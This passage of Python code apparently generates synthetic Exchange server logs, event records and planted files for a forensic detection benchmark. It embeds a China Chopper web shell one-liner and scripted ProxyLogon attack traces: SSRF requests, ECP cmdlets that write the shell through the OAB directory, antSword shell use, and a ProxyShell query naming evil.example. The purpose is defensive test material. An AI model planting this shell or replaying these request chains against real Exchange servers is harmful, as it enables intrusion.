            done = start + timedelta(seconds=rng.randint(2, 40), microseconds=rng.randint(0, 999) * 1000)
            entries.append(
                (
                    done,
                    "Information",
                    f"OABGeneratorAssistant finished generation of OAB '\\Default Offline Address Book'; "
                    f"{rng.randint(400, 900)} recipients, {rng.randint(1, 3)} files changed.",
                )
            )
    by_day: dict[date, list[tuple[datetime, str, str]]] = {}
    for entry in entries:
        by_day.setdefault(entry[0].date(), []).append(entry)
    for day in sorted(by_day):
        rows = sorted(by_day[day], key=lambda e: e[0])
        lines = exchange_header(OABGEN_FIELDS, ctx.cu_build, "OABGenerator Log", rows[0][0], bare=False)
        lines += [
            csv_line([iso_ms(t), ctx.netbios, level, "OABGenerator", message]) for t, level, message in rows
        ]
        bundle.add_windows_file(
            ctx.ex(f"Logging\\OABGeneratorLog\\OABGenerator{day:%Y%m%d}-1.LOG"), lines, bom=ctx.spec.bom
        )


# ---------------------------------------------------------------------------------------------
# Event logs
# ---------------------------------------------------------------------------------------------


@dataclass
class Event:
    time: datetime
    id: int
    provider: str
    level: str
    message: str
    properties: list[str] = field(default_factory=list)

    def json(self) -> str:
        record = {
            "TimeCreated": iso_7(self.time),
            "Id": self.id,
            "ProviderName": self.provider,
            "LevelDisplayName": self.level,
            "Message": self.message,
            "Properties": self.properties,
        }
        return json.dumps(record, ensure_ascii=False, separators=(",", ":"))


def channel_file(channel: str, extension: str = ".jsonl") -> str:
    # DESIGN.md: '/' in a channel name becomes '%4' (what wevtutil does for exported file names).
    return "eventlogs/" + channel.replace("/", "%4") + extension


def write_events(bundle: Bundle, channel: str, events: list[Event]) -> None:
    if events:
        events = sorted(events, key=lambda e: (e.time, e.id))
        bundle.add_lines(channel_file(channel), [e.json() for e in events], crlf=False)


EVTX_LEVELS = {"Critical": 1, "Error": 2, "Warning": 3, "Information": 4}
# EventID Qualifiers of classic (EventLog API) sources: severity bits 0x4000 informational, 0xC000 error,
# 0x8000 warning, plus the Exchange facility 4 (Exchange events show Qualifiers="16388" / "49156").
EVTX_QUALIFIERS = {"Error": 0xC004, "Warning": 0x8004, "Information": 0x4004}


def write_events_evtx(bundle: Bundle, channel: str, events: list[Event], computer: str) -> None:
    """The channel as a responder exports it from Event Viewer (wevtutil epl): a real .evtx file.

    An .evtx holds no rendered message (Windows formats it when the log is read), so only the
    Properties survive, as the <Data> values; the hunter rebuilds the message (event_log.py).
    """
    if events:
        events = sorted(events, key=lambda e: (e.time, e.id))
        records = [
            EvtxEvent(
                time=e.time,
                event_id=e.id,
                provider=e.provider,
                channel=channel,
                computer=computer,
                level=EVTX_LEVELS[e.level],
                data=tuple(e.properties),
                qualifiers=EVTX_QUALIFIERS[e.level],
            )
            for e in events
        ]
        # A log that Windows has kept for years does not start at record 1.
        bundle.add_bytes(channel_file(channel, ".evtx"), encode_evtx(records, first_record_id=48213))


def random_times(ctx: Context, per_day: float, rng: random.Random) -> list[datetime]:
    out = []
    for day in day_list(ctx):
        count = int(per_day) + (1 if rng.random() < per_day - int(per_day) else 0)
        for _ in range(count):
            t = datetime(day.year, day.month, day.day, tzinfo=UTC) + timedelta(
                seconds=rng.randint(0, 86399), microseconds=rng.randint(0, 999999)
            )
            if t < ctx.spec.collected_at - timedelta(minutes=5):
                out.append(t)
    return out


def application_events(ctx: Context) -> list[Event]:
    rng = random.Random(f"{ctx.spec.name}:application")
    events: list[Event] = []
    pid = rng.randint(2000, 9000)
    edge = "EdgeTransport" in ctx.spec.roles
    for t in random_times(ctx, 3, rng):
        if edge:
            events.append(
                Event(
                    t,
                    2080,
                    "MSExchange ADAccess",
                    "Information",
                    f"Process MSExchangeTransport.exe (PID={pid}). Exchange Active Directory Provider "
                    f"(ADAM) has discovered the following servers: localhost (Edge Transport).",
                )
            )
            continue
        events.append(
            Event(
                t,
                2080,
                "MSExchange ADAccess",
                "Information",
                f"Process Microsoft.Exchange.Directory.TopologyService.exe (PID={pid}). Exchange Active "
                f"Directory Provider has discovered the following servers with the following "
                f"characteristics:\n (Server name | Roles | Enabled | Reachability | Synchronized | "
                f"GC capable | PDC | SACL right | Critical Data | Netlogon | OS Version)\n In-site:\n"
                f"DC01.{ctx.org.dns}  CDG 1 7 7 1 0 1 1 7 1\nDC02.{ctx.org.dns}  CDG 1 7 7 1 0 0 1 7 1",
            )
        )
    for t in random_times(ctx, 0.7, rng):
        if edge:
            events.append(
                Event(
                    t,
                    12014,
                    "MSExchangeTransport",
                    "Error",
                    f"Microsoft Exchange could not find a certificate that contains the domain name "
                    f"mail.{ctx.org.smtp} in the personal store on the local computer. Therefore, it is "
                    f"unable to support the STARTTLS SMTP verb for the connector Default internal receive "
                    f"connector {ctx.netbios} with a FQDN parameter of mail.{ctx.org.smtp}.",
                )
            )
            continue
        ws = rng.choice(ctx.users).workstation_ip
        events.append(
            Event(
                t,
                1035,
                "MSExchangeFrontEndTransport",
                "Warning",
                f"Inbound authentication failed with error LogonDenied for Receive connector Client "
                f"Frontend {ctx.netbios}. The authentication mechanism is Login. The source IP address of "
                f"the client who tried to authenticate to Microsoft Exchange is [{ws}].",
            )
        )
    for t in random_times(ctx, 0.5, rng):
        events.append(
            Event(
                t,
                106,
                "MSExchange Common",
                "Warning",
                "Performance counter updating error. Counter name is Percentage of Failed Offline "
                "Address Book Requests, category name is MSExchange OAB Request Handler. Optional code: "
                "3. Exception: The exception thrown is : System.InvalidOperationException: The requested "
                "Performance Counter is not a custom counter, it has to be initialized as ReadOnly.",
            )
        )
    if not edge and ctx.spec.dag:
        for t in random_times(ctx, 0.3, rng):
            db = rng.choice(ctx.databases)
            events.append(
                Event(
                    t,
                    4113,
                    "MSExchangeRepl",
                    "Information",
                    f"Database redundancy health check passed.\nDatabase copy: {db[0]}\nRedundancy count: "
                    f"{len(ctx.spec.peers)}\nIsSuppressed: False",
                )
            )
    if "UnifiedMessaging" in ctx.spec.roles or ctx.build[:2] == (15, 0):
        for t in random_times(ctx, 0.2, rng):
            events.append(
                Event(
                    t,
                    1001,
                    "MSExchange Unified Messaging",
                    "Information",
                    "The Microsoft Exchange Unified Messaging service started successfully.",
                )
            )
        for t in random_times(ctx, 0.1, rng):
            # UM errors that are not the CVE-2021-26857 signature (no InvalidCastException): near-misses.
            events.append(
                Event(
                    t,
                    1400,
                    "MSExchange Unified Messaging",
                    "Error",
                    "The Unified Messaging server failed to exchange the required certificates with an "
                    "IP gateway to enable Transport Layer Security (TLS) for an incoming call. Please "
                    "check that this is a configured TLS peer and that the right certificates are being "
                    "used. More information: A call to SSPI failed, see inner exception.",
                )
            )
    for t in random_times(ctx, 0.15, rng):
        events.append(
            Event(
                t,
                16384,
                "Microsoft-Windows-Security-SPP",
                "Information",
                "Successfully scheduled Software Protection service for re-start at "
                f"{(t + timedelta(days=1)):%Y-%m-%dT%H:%M:%SZ}. Reason: RulesEngine.",
            )
        )
    return events


MANAGEMENT_CMDLETS = [
    ("Get-Mailbox", '-Identity "{upn}"'),
    ("Set-Mailbox", '-Identity "{dns}/Users/{display}" -ProhibitSendQuota "49.5 GB"'),
    ("Get-MailboxDatabaseCopyStatus", '-Server "{server}"'),
    ("Enable-Mailbox", '-Identity "{dns}/Users/{display}" -Database "{db}"'),
    ("New-MoveRequest", '-Identity "{upn}" -TargetDatabase "{db}"'),
    ("Set-CASMailbox", '-Identity "{upn}" -ActiveSyncEnabled "True"'),
    ("Add-MailboxPermission", '-Identity "{upn}" -User "CONTOSO\\svc-helpdesk" -AccessRights "FullAccess"'),
    ("Get-ExchangeCertificate", '-Server "{server}"'),
    ("Test-ServiceHealth", '-Server "{server}"'),
]


def management_event(t: datetime, cmdlet: str, params: str, user: str, ok: bool = True) -> Event:
    verb = "succeeded" if ok else "failed"
    message = f"Cmdlet {verb}. Cmdlet {cmdlet}, parameters {params}."
    return Event(
        t,
        1 if ok else 6,
        "MSExchange CmdletLogs",
        "Information" if ok else "Error",
        message,
        [cmdlet, params, user, "Remote-PowerShell"],
    )


def management_events(ctx: Context) -> list[Event]:
    rng = random.Random(f"{ctx.spec.name}:management")
    events = []
    for t in random_times(ctx, 1.2, rng):
        if not 6 <= t.hour <= 18:
            continue
        cmdlet, template = rng.choice(MANAGEMENT_CMDLETS)
        user = rng.choice(ctx.users)
        params = template.format(
            upn=user.upn,
            dns=ctx.org.dns,
            display=user.display,
            server=ctx.netbios,
            db=ctx.database_of(user)[0],
        )
        admin = rng.choice(ctx.org.admins)
        events.append(
            management_event(
                t, cmdlet, params, f"{ctx.org.dns}/Users/{admin.display}", ok=rng.random() > 0.05
            )
        )
    return events


def defender_events(ctx: Context) -> list[Event]:
    rng = random.Random(f"{ctx.spec.name}:defender")
    events = []
    spec = ctx.spec
    intel = "1.421.1873.0" if ctx.spec.collected_at.year >= 2026 else "1.331.1420.0"
    for day in day_list(ctx):
        t = datetime(day.year, day.month, day.day, 6, rng.randint(0, 59), rng.randint(0, 59), tzinfo=UTC)
        if t >= spec.collected_at:
            continue
        if spec.ep_real_time:
            events.append(
                Event(
                    t,
                    2000,
                    "Microsoft-Windows-Windows Defender",
                    "Information",
                    f"Microsoft Defender Antivirus security intelligence version updated.\n Current "
                    f"security intelligence Version: {intel}\n Security intelligence type: AntiVirus",
                )
            )
            events.append(
                Event(
                    t + timedelta(minutes=2),
                    1150,
                    "Microsoft-Windows-Windows Defender",
                    "Information",
                    "Endpoint Protection client is up and running in a healthy state.",
                )
            )
        else:
            # Updates fail every morning once the proxy blocks them (signatures are 40 days old).
            events.append(
                Event(
                    t,
                    2001,
                    "Microsoft-Windows-Windows Defender",
                    "Warning",
                    "Microsoft Defender Antivirus has encountered an error trying to update security "
                    "intelligence.\n Error code: 0x8024402c\n Error description: The proxy server or "
                    "target server name cannot be resolved.",
                )
            )
    if not spec.ep_real_time:
        # Someone switched real-time protection off once, at the start of the collected period.
        first = day_list(ctx)[0]
        events.append(
            Event(
                datetime(first.year, first.month, first.day, 10, 14, 52, 381000, tzinfo=UTC),
                5001,
                "Microsoft-Windows-Windows Defender",
                "Warning",
                "Microsoft Defender Antivirus Real-time Protection scanning for malware and other "
                "potentially unwanted software was disabled.",
            )
        )
    return events


# ---------------------------------------------------------------------------------------------
# server.json
# ---------------------------------------------------------------------------------------------


def product_short(product: str) -> str:
    return "Subscription Edition" if product.endswith("SE") else product.rsplit(" ", 1)[-1]


def installed_updates(ctx: Context, catalog: Catalog) -> list[dict[str, str]]:
    spec = ctx.spec
    if spec.product.endswith("2010"):
        day = EX2010_RU32_RELEASED + timedelta(days=9)
        return [{"package": EX2010_RU32_PACKAGE, "installed": day.isoformat()}]
    rows = [
        r
        for r in catalog.cu_rows(spec.product, spec.cu)
        if r.update_kb and parse_build(r.update_build) <= ctx.build
    ]
    if not spec.update and not spec.build_override:
        return []
    current = rows[-1] if spec.build_override else catalog.row(spec.product, spec.cu, spec.update)
    earlier = [r for r in rows if parse_build(r.update_build) < parse_build(current.update_build)]
    rng = random.Random(f"{spec.name}:updates")
    # The Updates registry key keeps the packages installed on this CU: the SUs applied in turn before
    # the current one. A CU upgrade clears them, so only updates of the current CU appear.
    chosen = earlier[len(earlier) - min(spec.update_history, len(earlier)) :]
    chosen.append(current)
    cu_text = "RTM" if spec.cu == "RTM" else f"Cumulative Update {spec.cu[2:]}"
    out = []
    for row in chosen:
        kind = "Hotfix Update" if "HU" in row.update else "Security Update"
        installed = update_release_day(row.update) + timedelta(days=rng.randint(3, 20))
        installed = min(installed, spec.collected_at.date() - timedelta(days=1))
        out.append(
            {
                "package": (
                    f"{kind} for Exchange Server {product_short(spec.product)} {cu_text} ({row.update_kb})"
                ),
                "installed": installed.isoformat(),
            }
        )
    return out


def server_json(ctx: Context, catalog: Catalog) -> dict[str, object]:
    spec = ctx.spec
    version = build_padded(ctx.build) if spec.padded_version else build_plain(ctx.build)
    if spec.product.endswith("2010"):
        version = f"{ctx.build[0]}.{ctx.build[1]:02d}.{ctx.build[2]:04d}.{ctx.build[3]:03d}"
    doc: dict[str, object] = {
        "schema": 1,
        "hostname": ctx.netbios,
        "fqdn": ctx.fqdn,
        "collected_at": iso_s(spec.collected_at),
        "exchange": {
            "install_path": spec.install_path,
            **({"installed_on": spec.installed_on.isoformat()} if spec.installed_on else {}),
            "exsetup_version": version,
            "roles": spec.roles,
            "dag": spec.dag,
            "site": spec.site,
            "installed_updates": installed_updates(ctx, catalog),
        },
        "os": {"caption": spec.os_caption, "version": spec.os_version},
        "dotnet_release": spec.dotnet_release,
    }
    if spec.has_iis:
        doc["iis"] = {"url_rewrite_version": spec.url_rewrite, "rewrite_rules": spec.rewrite_rules}
    if spec.mitigation_service is not None:
        doc["mitigation_service"] = {"enabled": spec.mitigation_service, "applied": []}
    doc["endpoint_protection"] = {
        "product": spec.ep_product,
        "real_time": spec.ep_real_time,
        "signature_age_days": spec.ep_signature_age,
    }
    return doc


def encode_server_json(doc: dict[str, object], damaged: bool) -> bytes:
    text = json.dumps(doc, indent=2, ensure_ascii=False) + "\n"
    if damaged:
        # A copy interrupted mid-write: cut inside the "exchange" object, so the file is not JSON.
        cut = text.index('"installed_updates"') + 30
        text = text[:cut]
    return text.encode("utf-8")


# ---------------------------------------------------------------------------------------------
# The ProxyLogon scenario (ex16-legacy)
# ---------------------------------------------------------------------------------------------

CHOPPER = (
    '<script language="JScript" runat="server">'
    'function Page_Load(){eval(Request["orange"],"unsafe");}</script>'
)
# Addresses published by Volexity for the March 2021 campaign (indicators.md §9).
ACTOR_A = "104.140.114.110"
ACTOR_A_SHELL = "104.250.191.110"
ACTOR_B = "5.254.43.18"
ACTOR_C = "80.92.205.81"
ADMIN_WS = "10.0.30.15"


@dataclass
class Scenario:
    requests: list[Request] = field(default_factory=list)
    ecp_rows: list[tuple[datetime, str]] = field(default_factory=list)
    oab_entries: list[tuple[datetime, str, str]] = field(default_factory=list)
    application: list[Event] = field(default_factory=list)
    management: list[Event] = field(default_factory=list)
    files: list[tuple[str, list[str]]] = field(default_factory=list)
    file_times: dict[str, datetime] = field(default_factory=dict)  # Windows path -> last write (listing)
    hours: list[datetime] = field(default_factory=list)


def ssrf(ctx: Context, t: str, stem: str, path: str, ua: str, ip: str, status: int, taken: int) -> Request:
    """One ProxyLogon SSRF request: X-BEResource cookie pointing at the back end on port 444."""
    req = Request(
        time=at(t),
        protocol="Ecp",
        method="POST",
        stem=stem,
        ua=ua,
        client_ip=ip,
        status=status,
        taken=taken,
        target=f"{ctx.fqdn}:444",
        routing_hint="X-BEResource-Cookie",
        anchor=f"ServerInfo~a]@{ctx.fqdn}:444/{path}#",
    )
    # The published attack rows carry only these values; everything else stays empty.
    req.hp_fields = {
        "AuthenticationType": "",
        "AuthenticatedUser": "",
        "TargetServerVersion": "",
        "RoutingType": "",
        "BackEndCookie": "",
        "RequestBytes": "",
        "ResponseBytes": "",
        "TargetOutstandingRequests": "",
        "CoreLatency": "",
        "HttpProxyOverhead": "",
        "TotalRequestTime": "",
        "GenericInfo": "",
        "UrlQuery": "",
    }
    return req


def ecp_attack_row(ctx: Context, t: str, took: int, sid: str, cmd: str, url: str) -> tuple[datetime, str]:
    items = [
        ("TIME", str(took)),
        ("SID", sid),
        ("CMD", cmd),
        ("REQID", ""),
        ("URL", url),
        ("REFERRER", ""),
        ("EX", ""),
        ("RS", "0"),
        ("BLD", build_plain(ctx.build)),
    ]
    return at(t), csv_line([iso_ms(at(t)), ctx.netbios, "ECP.Request", bag(items)])


def proxylogon(ctx: Context) -> Scenario:
    rng = random.Random(f"{ctx.spec.name}:proxylogon")
    sc = Scenario()
    shell_name = "".join(
        rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8)
    )
    shell_path = f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{shell_name}.aspx"
    ecp_canary = "M1xSx" + canary(rng)[:40] + "."
    sid = new_guid(rng)
    vdir = ctx.org.oab_vdir_guid
    fqdn = ctx.fqdn

    # Actor A, 2021-03-03 06:49 UTC: the full HAFNIUM chain (SSRF -> ECP session -> OAB vdir -> shell).
    sc.requests += [
        ssrf(
            ctx,
            "2021-03-03T06:49:30.481",
            "/ecp/y.js",
            "autodiscover/autodiscover.xml?",
            "ExchangeServicesClient/0.0.0.0",
            ACTOR_A,
            200,
            87,
        ),
        ssrf(
            ctx,
            "2021-03-03T06:49:38.902",
            "/ecp/y.js",
            "mapi/emsmdb/?",
            "python-requests/2.25.1",
            ACTOR_A,
            200,
            143,
        ),
        ssrf(
            ctx,
            "2021-03-03T06:49:46.210",
            "/ecp/y.js",
            "ecp/proxyLogon.ecp?",
            "python-requests/2.25.1",
            ACTOR_A,
            241,
            402,
        ),
        ssrf(
            ctx,
            "2021-03-03T06:49:50.037",
            "/ecp/y.js",
            f"ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={ecp_canary}&schema=OABVirtualDirectory",
            "python-requests/2.25.1",
            ACTOR_A,
            200,
            311,
        ),
        ssrf(
            ctx,
            "2021-03-03T06:49:53.771",
            "/ecp/y.js",
            f"ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ecp_canary}&schema=OABVirtualDirectory",
            "python-requests/2.25.1",
            ACTOR_A,
            200,
            1880,
        ),
        ssrf(
            ctx,
            "2021-03-03T06:50:00.359",
            "/ecp/y.js",
            f"ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ecp_canary}&schema=ResetOABVirtualDirectory",
            "python-requests/2.25.1",
            ACTOR_A,
            200,
            7512,
        ),
    ]
    # The same chain as the ECP back end logged it (log-formats.md §3 attack rows, with this server's names).
    script_url = f"http://f/{CHOPPER}"
    sc.ecp_rows += [
        ecp_attack_row(
            ctx,
            "2021-03-03T06:49:53.772",
            1873,
            sid,
            f"Set-OabVirtualDirectory.ExternalUrl='{script_url}'.Identity='{vdir}'",
            f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ecp_canary}&schema=OABVirtualDirectory",
        ),
        ecp_attack_row(
            ctx,
            "2021-03-03T06:50:00.717",
            310,
            sid,
            f"Remove-OABVirtualDirectory.Force=$true.Identity='{ctx.netbios}\\OAB (Default Web Site)'",
            f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ecp_canary}&schema=ResetOABVirtualDirectory",
        ),
        ecp_attack_row(
            ctx,
            "2021-03-03T06:50:08.396",
            7410,
            sid,
            f"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{ctx.netbios}'"
            f".Role='ClientAccess'.InternalURL='https://{fqdn}/OAB'"
            f".Path='{ctx.ex('FrontEnd')}\\HttpProxy\\OAB'",
            f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ecp_canary}&schema=ResetOABVirtualDirectory",
        ),
        # Weeks earlier an administrator set the OAB URL legitimately (the near-miss of PL-27065-ECPSERVER).
        ecp_attack_row(
            ctx,
            "2021-02-10T09:00:01.000",
            250,
            new_guid(rng),
            f"Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='{vdir}'",
            "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Zm9vYmFy.&schema=OABVirtualDirectory",
        ),
    ]
    sc.management += [
        management_event(
            at("2021-02-10T09:00:01.116"),
            "Set-OabVirtualDirectory",
            f'-ExternalUrl "https://mail.contoso.com/OAB" -Identity "{vdir}"',
            "contoso.local/Users/Exchange Admin",
        ),
        management_event(
            at("2021-03-03T06:49:53.790"),
            "Set-OabVirtualDirectory",
            f'-ExternalUrl "{script_url}" -Identity "{vdir}"',
            "NT AUTHORITY\\SYSTEM",
        ),
        management_event(
            at("2021-03-03T06:50:00.731"),
            "Remove-OabVirtualDirectory",
            f'-Force "True" -Identity "{ctx.netbios}\\OAB (Default Web Site)"',
            "NT AUTHORITY\\SYSTEM",
        ),
        management_event(
            at("2021-03-03T06:50:08.402"),
            "New-OabVirtualDirectory",
            f'-WebSiteName "Default Web Site" -Server "{ctx.netbios}" -Role "ClientAccess" '
            f'-InternalUrl "https://{fqdn}/OAB" -Path "{ctx.ex("FrontEnd")}\\HttpProxy\\OAB"',
            "NT AUTHORITY\\SYSTEM",
        ),
    ]
    # The OAB generator reports the file it wrote outside ClientAccess\OAB (CVE-2021-26858).
    sc.oab_entries += [
        (
            at("2021-03-03T06:52:17.318"),
            "Warning",
            f"Download failed and temporary file '{ctx.ex('ClientAccess')}\\OAB\\Temp\\{new_guid(rng)}.tmp' "
            "needs to be removed.",
        ),
        (
            at("2021-03-03T06:52:19.904"),
            "Warning",
            f"Download failed and temporary file '{shell_path}' needs to be removed.",
        ),
    ]

    def front(
        t: str, method: str, stem: str, ua: str, ip: str, status: int, taken: int, query: str = ""
    ) -> Request:
        # Requests to pages outside Exchange's proxy (aspnet_client) appear only in IIS.
        req = Request(
            time=at(t),
            protocol="Owa",
            method=method,
            stem=stem,
            ua=ua,
            client_ip=ip,
            status=status,
            taken=taken,
            proxied=False,
            query=query,
        )
        if stem.startswith("/aspnet_client/"):
            # Outside Exchange's virtual directories nothing appends the cafeReqId items to the query.
            req.iis_query = query or "-"
        if status == 404:
            req.win32 = 2
        return req

    chopper_ua = "antSword/v2.1"
    shell_stem = f"/aspnet_client/system_web/{shell_name}.aspx"
    sc.requests += [
        front("2021-03-03T06:53:41.150", "POST", shell_stem, chopper_ua, ACTOR_A_SHELL, 200, 318),
        front("2021-03-03T06:54:02.877", "POST", shell_stem, chopper_ua, ACTOR_A_SHELL, 200, 1250),
        front("2021-03-03T06:54:40.512", "POST", shell_stem, chopper_ua, ACTOR_A_SHELL, 200, 4122),
        # A crawler-spoofing POST to a theme file (PL-IIS-VOLEXITY themes-resources).
        front(
            "2021-03-03T07:02:11.604",
            "POST",
            "/owa/auth/Current/themes/resources/logon.css",
            "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
            ACTOR_A,
            200,
            88,
        ),
        # A second shell dropped through the first, used, then deleted (no file left on disk).
        front(
            "2021-03-03T07:10:27.330",
            "POST",
            "/aspnet_client/shell.aspx",
            chopper_ua,
            ACTOR_A_SHELL,
            200,
            215,
        ),
        front(
            "2021-03-03T07:10:59.801",
            "POST",
            "/aspnet_client/shell.aspx",
            chopper_ua,
            ACTOR_A_SHELL,
            200,
            3377,
        ),
        front(
            "2021-03-04T02:31:18.006", "GET", "/aspnet_client/shell.aspx", chopper_ua, ACTOR_A_SHELL, 404, 15
        ),
        front(
            "2021-03-05T03:06:27.455",
            "GET",
            "/owa/auth/RedirSuiteServerProxy.aspx",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/65.0.2345 Safari/537.36",
            ACTOR_C,
            302,
            133,
        ),
    ]
    # Actor B, 2021-03-04 00:1x: a mass-exploitation wave that reached the back end but stopped there.
    sc.requests += [
        ssrf(
            ctx,
            "2021-03-04T00:17:05.522",
            "/ecp/Fd.js",
            "autodiscover/autodiscover.xml?",
            "ExchangeServicesClient/0.0.0.0",
            ACTOR_B,
            200,
            75,
        ),
        ssrf(
            ctx,
            "2021-03-04T00:17:09.114",
            "/ecp/Fd.js",
            "mapi/emsmdb/?",
            "python-requests/2.25.1",
            ACTOR_B,
            200,
            120,
        ),
        ssrf(
            ctx,
            "2021-03-04T00:17:12.948",
            "/ecp/Fd.js",
            "ews/exchange.asmx?",
            "python-requests/2.25.1",
            ACTOR_B,
            200,
            233,
        ),
    ]
    # 2021-03-08: the administrator runs Microsoft's nmap check (PL-26855-PROBE, informational).
    probe = Request(
        time=at("2021-03-08T11:02:17.004"),
        protocol="Owa",
        method="GET",
        stem="/owa/auth/x.js",
        ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        client_ip=ADMIN_WS,
        status=500,
        taken=41,
        routing_hint="X-AnonResource-Backend-Cookie",
        anchor="ServerInfo~localhost/ecp/default.flt?",
    )
    probe.hp_fields = {
        "BackEndStatus": "",
        "TargetServer": "",
        "TargetServerVersion": "",
        "RoutingType": "",
        "TargetOutstandingRequests": "",
        "CoreLatency": "",
        "HttpProxyOverhead": "",
        "TotalRequestTime": "",
        "GenericInfo": "",
        "RequestBytes": "",
        "ResponseBytes": "",
    }
    sc.requests.append(probe)

    for req in sc.requests:
        req.request_id = new_guid(rng)
    sc.hours = sorted({r.time.replace(minute=0, second=0, microsecond=0) for r in sc.requests if r.proxied})

    # The planted page: the OAB virtual directory's settings dump, written by the reset with the
    # attacker's ExternalUrl inside it (CVE-2021-27065 "OAB-config dump shell").
    sc.files.append(
        (
            shell_path,
            [
                "Name                            : OAB (Default Web Site)",
                "PollInterval                    : 480",
                "OfflineAddressBooks             : \\Default Offline Address Book",
                "RequireSSL                      : False",
                "BasicAuthentication             : False",
                "WindowsAuthentication           : True",
                "OAuthAuthentication             : True",
                f"MetabasePath                    : IIS://{fqdn}/W3SVC/1/ROOT/OAB",
                f"Path                            : {ctx.ex('FrontEnd')}\\HttpProxy\\OAB",
                "ExtendedProtectionTokenChecking : None",
                "ExtendedProtectionFlags         : {}",
                "ExtendedProtectionSPNList       : {}",
                "AdminDisplayVersion             : Version 15.1 (Build 2176.2)",
                f"Server                          : {ctx.netbios}",
                f"InternalUrl                     : https://{fqdn}/OAB",
                "InternalAuthenticationMethods   : {WindowsIntegrated}",
                f"ExternalUrl                     : {script_url}",
                "ExternalAuthenticationMethods   : {WindowsIntegrated}",
                "AdminDisplayName                :",
                "ExchangeVersion                 : 0.10 (14.0.100.0)",
                "DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,"
                f"CN={ctx.netbios},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),"
                "CN=Administrative Groups,CN=Contoso,"
                "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local",
                f"Identity                        : {ctx.netbios}\\OAB (Default Web Site)",
                f"Guid                            : {vdir}",
                "ObjectCategory                  : "
                "contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory",
                "ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}",
                "WhenChanged                     : 3/3/2021 6:50:08 AM",
                "WhenCreated                     : 3/3/2021 6:50:08 AM",
                "OriginatingServer               : DC01.contoso.local",
                "IsValid                         : True",
                "ObjectState                     : Unchanged",
            ],
        )
    )
    # The reset wrote the dump when it recreated the virtual directory (WhenChanged above).
    sc.file_times[shell_path] = at("2021-03-03T06:50:08.396")
    return sc


def synthetic_attack(ctx: Context) -> Scenario:
    """A short ProxyLogon trace for benchmark estates: two SSRF rows and a planted page."""
    rng = random.Random(f"{ctx.spec.name}:attack")
    sc = Scenario()
    day = ctx.spec.collected_at - timedelta(days=1)
    base = day.replace(hour=3, minute=rng.randint(0, 50), second=rng.randint(0, 59), microsecond=0)
    ip = rng.choice(["103.77.192.219", "149.28.14.163", "157.230.221.198", "167.99.168.251", "91.192.103.43"])
    for offset, path, status in [(0, "autodiscover/autodiscover.xml?", 200), (6, "ecp/proxyLogon.ecp?", 241)]:
        req = ssrf(
            ctx,
            iso_ms(base + timedelta(seconds=offset))[:-1],
            "/ecp/x.js",
            path,
            "python-requests/2.25.1",
            ip,
            status,
            100 + offset,
        )
        req.request_id = new_guid(rng)
        sc.requests.append(req)
    name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    sc.files.append(
        (
            f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{name}.aspx",
            [
                f"ExternalUrl                     : http://f/{CHOPPER}",
                "InternalAuthenticationMethods   : {WindowsIntegrated}",
                "ExtendedProtectionTokenChecking : None",
            ],
        )
    )
    sc.hours = [base.replace(minute=0, second=0, microsecond=0)]
    return sc


# ---------------------------------------------------------------------------------------------
# Exploitation attempts against a patched server (ex16-patched)
# ---------------------------------------------------------------------------------------------

# TEST-NET-1 (RFC 5737): kept apart from the benign external clients (198.51.100.0/24, 203.0.113.0/24).
PROXYSHELL_ACTOR = "192.0.2.45"
PROXYNOTSHELL_ACTOR = "192.0.2.91"
SCANNER = "192.0.2.200"


def attempt(rng: random.Random, t: str, method: str, query: str, ua: str, ip: str, status: int, taken: int) -> Request:
    """An autodiscover.json path-confusion request that the patched front end refused (400/401).

    IIS rows are shaped like log-formats.md §7 (stem ``/autodiscover/autodiscover.json``, the
    ``@…`` part in ``cs-uri-query``, Exchange's correlation items appended); the HttpProxy
    Autodiscover row carries the same query in ``UrlQuery`` and, as for every refused request, no
    back-end values.
    """
    req = Request(
        time=at(t),
        protocol="Autodiscover",
        method=method,
        stem="/autodiscover/autodiscover.json",
        query=query,
        ua=ua,
        client_ip=ip,
        status=status,
        taken=taken,
        request_id=new_guid(rng),
    )
    req.iis_query = f"{query}&CorrelationID=<empty>;&cafeReqId={req.request_id};"
    begin = req.time - timedelta(milliseconds=taken)
    # Refused in the front end: nothing was proxied, so every back-end column stays empty.
    req.hp_fields = {
        name: ""
        for name in (
            "BackEndStatus",
            "ProxyAction",
            "TargetServer",
            "TargetServerVersion",
            "RoutingType",
            "RoutingHint",
            "BackEndCookie",
            "RequestBytes",
            "ResponseBytes",
            "TargetOutstandingRequests",
            "CoreLatency",
            "HttpProxyOverhead",
            "TotalRequestTime",
            "RoutingStatus",
        )
    }
    req.hp_fields["GenericInfo"] = (
        f"BeginRequest={iso_ms(begin)};CorrelationID=<empty>;ProxyState-Run=None;EndRequest={iso_ms(req.time)};"
    )
    return req


def exploit_attempts(ctx: Context) -> Scenario:
    """November 2026: ProxyShell recon, a ProxyNotShell try and a scanner probe, all refused."""
    rng = random.Random(f"{ctx.spec.name}:attempts")
    sc = Scenario()
    evil = "Email=autodiscover/autodiscover.json%3F@evil.example"
    sc.requests += [
        # ProxyShell: recon of the address book, then the backend PowerShell step (log-formats.md §7).
